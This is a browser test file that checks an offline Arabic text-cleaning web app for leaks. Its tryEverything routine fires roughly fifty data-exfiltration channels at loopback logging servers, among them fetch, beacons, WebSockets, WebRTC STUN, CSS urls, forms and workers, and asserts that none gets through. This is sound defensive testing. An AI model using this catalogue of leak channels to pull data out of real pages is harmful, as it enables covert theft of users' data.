// No byte leaves the tab: every way out that a page has is tried, on the page and in a worker, in Chromium and Firefox,
// from a host and from disk. What counts is what the servers saw. And: a hosted page works on without its host.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { after, before, test } from 'node:test';
import { file, idle, lines, open, paste, visit } from './browser.mjs';
import { openFirefox } from './firefox.mjs';

const dist = fileURLToPath(new URL('../../dist/', import.meta.url));
/** What a host has, and the only paths that may be asked for. */
const HOSTED = { '/': ['index.html', 'text/html'], '/sw.js': ['sw.js', 'text/javascript'], '/manifest.webmanifest': ['manifest.webmanifest', 'application/manifest+json'] };

/** A server on loopback that writes down every request. */
async function witness(files) {
  const seen = [];
  const note = (request) => seen.push(`${request.method} ${request.url}`);
  const server = createServer((request, response) => {
    note(request);
    const found = files[request.url];
    if (request.url === '/plain') return response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>plain</title>');
    if (!found) return response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('');
    response.writeHead(200, { 'content-type': `${found[1]}; charset=utf-8` }).end(readFileSync(dist + found[0]));
  });
  server.on('upgrade', (request, socket) => {
    note(request);
    socket.destroy();
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  // WebRTC asks over UDP for the address that it is seen by.
  const udp = createSocket('udp4', () => seen.push('UDP'));
  await new Promise((done) => udp.bind(0, '127.0.0.1', done));
  return {
    seen, url: `http://localhost:${server.address().port}/`, udp: `127.0.0.1:${udp.address().port}`,
    close: () => new Promise((done) => {
      udp.close();
      server.closeAllConnections();
      server.close(done);
    }),
  };
}

/** Runs in the page. Tries all ways out to each address, here and in a worker, and says how many it tried. */
async function tryEverything([addresses, udp, control]) {
  const everywhere = (base, from) => {
    const at = (name) => `${base}leak-${from}-${name}?text=secret`;
    const socket = (name) => at(name).replace('http', 'ws');
    return [
      () => fetch(at('fetch')),
      () => fetch(at('fetch-no-cors'), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', at('xhr'));
        request.send('secret');
      },
      () => new WebSocket(socket('websocket')),
      () => new EventSource(at('events')),
      () => (0, eval)(`fetch(${JSON.stringify(at('eval'))})`),
      () => new Function(`fetch(${JSON.stringify(at('function'))})`)(),
      () => import(at('import')),
      () => new Worker(at('worker')),
      () => new SharedWorker(at('shared-worker')),
      () => self.importScripts(at('import-scripts')),
      () => new WebTransport(at('transport').replace('http:', 'https:')).ready,
    ];
  };
  const inPage = (base) => {
    const at = (name) => `${base}leak-page-${name}?text=secret`;
    const element = (tag, fields, attributes = {}) => () => {
      const made = Object.assign(document.createElement(tag), fields);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      (tag === 'link' || tag === 'meta' || tag === 'base' ? document.head : document.body).append(made);
      return made;
    };
    const link = (rel, fields = {}) => element('link', { rel, href: at(`link-${rel.replace(/\W/g, '')}-${fields.as ?? ''}`), ...fields });
    const send = (fields) => () => {
      const form = element('form', { action: at('form'), method: 'post', ...fields })();
      form.append(Object.assign(document.createElement('input'), { name: 'text', value: 'secret' }));
      if (control) form.target = element('iframe', { name: 'target' })().name;
      form.submit();
    };
    const css = (name, text) => element('style', { textContent: text.replace('URL', at(name)) });
    return [
      () => navigator.sendBeacon(at('beacon'), 'secret'),
      () => (new Image().src = at('image')),
      element('img', { srcset: `${at('srcset')} 2x`, src: at('img') }),
      element('script', { src: at('script') }),
      element('script', { textContent: `fetch(${JSON.stringify(at('inline'))})` }),
      element('iframe', { src: at('iframe') }),
      element('iframe', { srcdoc: `<img src="${at('srcdoc')}"><script>fetch('${at('srcdoc-fetch')}')</script>` }),
      element('object', { data: at('object') }),
      element('embed', { src: at('embed') }),
      element('video', { src: at('video'), poster: at('poster'), autoplay: true }),
      element('audio', { src: at('audio'), preload: 'auto' }),
      element('track', { src: at('track') }),
      css('css-background', 'body { background-image: url("URL") }'),
      css('css-import', '@import "URL";'),
      css('css-font', '@font-face { font-family: leak; src: url("URL") } body { font-family: leak }'),
      css('css-cursor', 'body { cursor: url("URL"), auto }'),
      link('stylesheet'), link('prefetch'), link('preload', { as: 'image' }), link('preload', { as: 'script' }), link('preload', { as: 'font', crossOrigin: '' }),
      link('modulepreload'), link('icon'), link('manifest'), link('prerender'),
      send({}), send({ method: 'get' }),
      element('base', { href: base }),
      () => document.body.style.setProperty('background', `url("${at('style')}")`),
      () => CSS.paintWorklet?.addModule(at('paint')),
      () => new AudioContext().audioWorklet.addModule(at('audio-worklet')),
      () => navigator.serviceWorker.register(at('service-worker')),
      () => {
        const speculation = element('script', { type: 'speculationrules' });
        speculation().textContent = JSON.stringify({ prefetch: [{ urls: [at('speculation')] }] });
      },
      async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
        peer.createDataChannel('secret');
        await peer.setLocalDescription(await peer.createOffer());
      },
      () => {
        const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
        svg.innerHTML = `<image href="${at('svg-image')}"/><use href="${at('svg-use')}#a"/>`;
        document.body.append(svg);
      },
    ];
  };
  const attempt = (way) => {
    try {
      Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused at once.
    }
  };
  let tried = 0;
  // A text is there by now: what the page itself needed of its host is closed.
  window.dispatchEvent(new InputEvent('beforeinput'));
  for (const base of addresses) {
    // A worker for each: in Firefox a worker's own `new Worker` now and then never returns.
    const workers = everywhere(base, 'worker').map((_, i) => {
      const code = `postMessage('begun'); (${attempt})((${everywhere})(${JSON.stringify(base)}, 'worker')[${i}]);`;
      return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    });
    await Promise.all(workers.map((worker) => new Promise((done) => {
      worker.onmessage = done;
    })));
    const ways = [...everywhere(base, 'page'), ...inPage(base)];
    ways.forEach(attempt);
    tried += workers.length + ways.length;
  }
  await new Promise((done) => setTimeout(done, 1500));
  return tried;
}

let host;
let other;
let chromium;
let firefox;
before(async () => {
  host = await witness(HOSTED);
  other = await witness({});
  [chromium, firefox] = await Promise.all([open(), openFirefox()]);
});
after(async () => {
  await Promise.all([chromium?.close(), firefox?.close(), host?.close(), other?.close()]);
});

const unexpected = () => [...host.seen.filter((line) => !Object.keys(HOSTED).some((path) => line === `GET ${path}`)), ...other.seen];

const DIRTY = 'المكتبــة العـــربية';
const CLEAN = 'المكتبة العربية';

for (const browser of ['chromium', 'firefox']) {
  for (const from of ['http', 'file']) {
    test(`nothing gets out (${browser}, ${from})`, async (t) => {
      if (browser === 'firefox' && !firefox) return t.skip('no Firefox here');
      host.seen.length = other.seen.length = 0;
      const url = from === 'http' ? host.url : pathToFileURL(file).href;
      const context = browser === 'chromium' ? await chromium.browser.newContext() : null;
      const page = await (context ?? firefox).newPage();
      await page.goto(url);
      await page.waitForSelector('[data-testid="profiles"] input');
      const tried = await page.evaluate(tryEverything, [from === 'http' ? [host.url, other.url] : [other.url], other.udp, false]);
      assert.ok(tried > 50);
      assert.deepEqual(unexpected(), []);
      await (context ?? page).close();
    });
  }
}

for (const browser of ['chromium', 'firefox']) {
  test(`a page without the policy lets it out, so the trials are real (${browser})`, async (t) => {
    if (browser === 'firefox' && !firefox) return t.skip('no Firefox here');
    other.seen.length = 0;
    const context = browser === 'chromium' ? await chromium.browser.newContext() : null;
    const page = await (context ?? firefox).newPage();
    await page.goto(`${other.url}plain`);
    await page.evaluate(tryEverything, [[other.url], other.udp, true]);
    const ways = new Set(other.seen.map((line) => line.replace(/\?.*/, '')));
    assert.ok(ways.size > 25, `${ways.size} ways out`);
    const ofWorker = [...ways].filter((way) => way.includes('leak-worker-'));
    assert.ok(ofWorker.length > 5, `${ofWorker.length} of a worker`);
    await (context ?? page).close();
  });
}

for (const from of ['http', 'file']) {
  test(`a text is pasted and cleaned in Firefox (${from})`, async (t) => {
    if (!firefox) return t.skip('no Firefox here');
    const page = await firefox.newPage();
    await page.bringToFront();
    const errors = [];
    page.on('pageerror', (error) => errors.push(String(error)));
    await page.goto(from === 'http' ? host.url : pathToFileURL(file).href);
    await page.waitForSelector('[data-testid="profiles"] input');
    await page.waitForSelector('section.result[aria-busy="false"]');
    await page.evaluate(async (text) => {
      document.querySelector('[data-testid="clear"]').click();
      document.querySelector('[data-testid="source"] .cm-content').focus();
      await new Promise((done) => setTimeout(done, 200));
      document.execCommand('insertText', false, text);
    }, DIRTY);
    await page.waitForFunction((clean) => document.querySelector('[data-testid="result"] .cm-content').textContent === clean, { timeout: 20_000, polling: 100 }, CLEAN);

    // A file that is streamed, dropped on the page.
    await page.select('[data-testid="dedupe"]', 'off');
    const [n, bytes] = await page.evaluate(async (line) => {
      const data = new DataTransfer();
      const block = `${line}\n`.repeat(10_000);
      const count = Math.ceil(51e6 / new Blob([block]).size);
      data.items.add(new File(Array(count).fill(block), 'corpus.txt'));
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
      const made = URL.createObjectURL;
      const blob = new Promise((done) => {
        URL.createObjectURL = (given) => (done(given), made.call(URL, given));
      });
      while (!document.querySelector('[data-testid="file-download"]')) await new Promise((done) => setTimeout(done, 50));
      document.querySelector('[data-testid="file-download"]').click();
      return [count * 10_000, (await blob).size];
    }, DIRTY);
    assert.equal(bytes, n * Buffer.byteLength(`${CLEAN}\n`));
    assert.deepEqual(errors, []);
    await page.close();
  });
}

test('a hosted page works on without its host, and is installable', async () => {
  host.seen.length = 0;
  const page = await visit(chromium.browser, host.url, { settled: true });
  const manifest = JSON.parse(readFileSync(`${dist}manifest.webmanifest`, 'utf8'));
  assert.equal(manifest.display, 'standalone');
  assert.match(manifest.icons[0].src, /^data:image/, 'no icon is asked for');
  assert.equal(await page.getAttribute('link[rel="manifest"]', 'href'), 'manifest.webmanifest');
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const before = host.seen.length;
  await page.context().setOffline(true);
  await page.reload();
  await page.waitForSelector('[data-testid="profiles"] input');
  await paste(page, DIRTY);
  assert.deepEqual(await lines(page, 'result'), [CLEAN]);
  await page.context().setOffline(false);
  await page.reload();
  await idle(page);
  assert.deepEqual(host.seen.slice(before).filter((line) => line !== 'GET /sw.js'), [], 'the page comes from its copy');
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('the page says what it promises and what it cannot', async () => {
  const page = await visit(chromium.browser, pathToFileURL(file).href, { language: 'en' });
  assert.match(await page.textContent('[data-testid="privacy"]'), /cannot connect to any server/);
  assert.match(await page.textContent('[data-testid="limits"]'), /following a link/);
  assert.match(await page.textContent('footer pre'), /connect-src 'none'/);
  assert.equal(await page.locator('a[href^="http"]').count(), 0, 'no link leads out');
  await page.context().close();
});
